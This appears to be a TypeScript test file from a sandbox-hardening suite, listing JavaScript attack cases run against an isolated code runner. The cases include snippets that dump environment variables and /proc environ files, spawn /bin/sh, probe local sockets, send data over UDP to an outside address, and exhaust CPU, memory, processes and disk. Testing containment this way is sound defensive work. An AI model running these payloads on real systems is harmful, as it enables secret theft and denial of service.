/** A few of the battery's attacks in JavaScript, for what runs nothing else. Names in `@` are facts, as in test/attack. */
import {attack, type Case} from '../../test/attack/case.ts';
import {BEGUN} from './contender.ts';

const PLAN = {because: 'the plan way needs a platform'} as const;
const js = (kind: 'python' | 'wild', code: string) => ({plan: PLAN, code: [{kind, code}]});

/** `python` in the battery's vocabulary is a program that may end as it likes; `wild` one that meets a limit. */
export const JAVASCRIPT: readonly Case[] = [
	attack('JS01', 'reads a file of the host', 'N', js('python', "await look(() => fs.readFileSync('@FILE@', 'utf8'));")),
	attack('JS02', 'reads the environment of the platform', 'D', {
		...js(
			'python',
			"tell(JSON.stringify(process.env)); for (const pid of ['self', process.ppid, '@PID@']) await look(() => fs.readFileSync('/proc/' + pid + '/environ', 'latin1'));",
		),
		canaries: ['environment'],
	}),
	attack(
		'JS03',
		'starts a program',
		'N',
		js('python', "await look(() => need('child_process').execFileSync('/bin/sh', ['-c', 'cat @FILE@']));"),
	),
	attack('JS04', 'connects to services on the same host', 'D', {
		...js(
			'python',
			`for (const where of [{port: @TCP@, host: '127.0.0.1'}, {path: '@SOCKET@'}, {path: '\\0@ABSTRACT@'}]) await look(() => new Promise((resolve, reject) => {
	const client = need('net').connect(where, () => {}); client.setTimeout(500, () => reject(new Error('late'))); client.on('data', (data) => { resolve(data); client.destroy(); }).on('error', reject); }));`,
		),
		canaries: ['network'],
	}),
	attack('JS05', 'sends data to an address of the internet', 'D', {
		...js(
			'python',
			"await look(() => new Promise((resolve, reject) => { const s = need('dgram').createSocket('udp4'); s.send('secret', 53, '203.0.113.9', (error) => { s.close(); error ? reject(error) : resolve('sent'); }); }));",
		),
		canaries: ['network'],
	}),
	attack('JS06', 'writes where others read', 'N', js('python', "go(() => fs.writeFileSync('@WATCH@/left.js', 'x'), 'wrote ');")),
	attack(
		'JS07',
		'ends the process that it is part of',
		'K',
		js('python', "process.kill(process.pid, 'SIGKILL'); await new Promise((resolve) => setTimeout(resolve, 1_000));"),
	),
	attack(
		'JS08',
		'lists the processes of the host',
		'R',
		js(
			'python',
			"await look(() => fs.readdirSync('/proc').includes('@PID@') && fs.readFileSync('/proc/@PID@/cmdline', 'utf8') ? won('sees the host') : 'alone');",
		),
	),
	attack('JS09', 'never ends', 'K', js('wild', 'for (;;);')),
	attack(
		'JS10',
		'takes all memory of the heap',
		'K',
		js('wild', 'const keep = []; for (;;) keep.push(new Array(1e5).fill(Math.random()));'),
	),
	attack(
		'JS11',
		'takes all memory beside the heap',
		'K',
		js('wild', 'const keep = []; for (;;) keep.push(Buffer.alloc(1 << 24, 1));'),
	),
	attack(
		'JS12',
		'starts processes without end',
		'K',
		js(
			'wild',
			"for (let n = 0; n < @FORKS@; n++) need('child_process').spawn('/bin/sleep', ['5']).on('error', () => {}); const seen = fs.readdirSync('/proc/self/task').length; await new Promise((resolve) => setTimeout(resolve, 300)); tell(seen); for (;;) need('child_process').spawnSync('/bin/sh', ['-c', 'sleep 5 & sleep 5 & sleep 5 & sleep 5 &'], {stdio: 'ignore'});",
		),
	),
	attack(
		'JS13',
		'fills the disk',
		'K',
		js('wild', "const block = Buffer.alloc(1 << 20, 1); for (let n = 0; ; n++) fs.writeFileSync('@SCRATCH@/s' + n, block);"),
	),
];

const PRELUDE = `
const WON = '@WON@'.split('').reverse().join('');
const need = process.getBuiltinModule;
const fs = need('fs');
const said = [];
const tell = (value) => void said.push(Buffer.isBuffer(value) ? value.toString('latin1').slice(0, 3000) : String(value).slice(0, 3000));
const won = (what) => void said.push((WON + ' ' + what).slice(0, 400));
const look = async (action) => { try { tell(await action()); } catch (error) { tell('Error ' + error.code); } };
const go = (action, what) => { try { action(); } catch (error) { return tell('Error ' + error.code); } won(what); };
`;

/** As Writ takes a module, or as an interpreter prints. */
export function asModule(code: string, isPrinted: boolean): string {
	const last = isPrinted ? 'console.log(said.join("\\n"));' : 'export default said.join("\\n");';
	return `${PRELUDE}${isPrinted ? `fs.writeSync(1, '${BEGUN}\\n');` : ''}\n${code}\n${last}\n`;
}
